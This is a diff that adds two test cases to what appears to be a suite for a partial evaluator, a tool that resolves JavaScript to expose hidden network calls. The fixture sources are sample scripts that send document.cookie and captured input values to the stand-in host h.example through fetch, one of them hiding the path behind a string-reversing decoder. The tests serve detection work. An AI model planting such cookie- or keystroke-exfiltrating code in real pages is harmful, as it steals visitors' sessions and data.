@@ -313,6 +313,30 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       })`,
     has: ["fetch('https://h.example/a?'", "fetch('https://h.example/b?'"],
   },
+  {
+    name: 'nor a property or an array a handler fills, read directly or through a getter',
+    source: `var st = { armed: false }, q = []; function armed() { return st.armed }
+      function full() { return q.length > 2 }
+      document.addEventListener('input', function (e) { st.armed = true; q.push(e.target.value) })
+      document.addEventListener('click', function () {
+        if (armed()) fetch('https://h.example/c?' + document.cookie)
+        if (st.armed) fetch('https://h.example/d?' + document.cookie)
+        if (full()) fetch('https://h.example/e?' + q.join())
+      })`,
+    has: [
+      "fetch('https://h.example/c?'",
+      "fetch('https://h.example/d?'",
+      "fetch('https://h.example/e?'",
+    ],
+  },
+  {
+    name: 'while what those handlers leave alone, and a decoder’s own memo table, are still read',
+    source: `var cfg = { host: 'h.example', n: 0 }, memo = {}
+      function dec(s) { if (memo[s]) return memo[s]; return (memo[s] = s.split('').reverse().join('')) }
+      document.addEventListener('input', function () { cfg.n++ })
+      document.addEventListener('click', function () { fetch('https://' + cfg.host + '/' + dec('fp') + '?' + document.cookie) })`,
+    has: ['"https://h.example/pf?"'],
+  },
 ]
 
 describe('partial evaluator', () => {
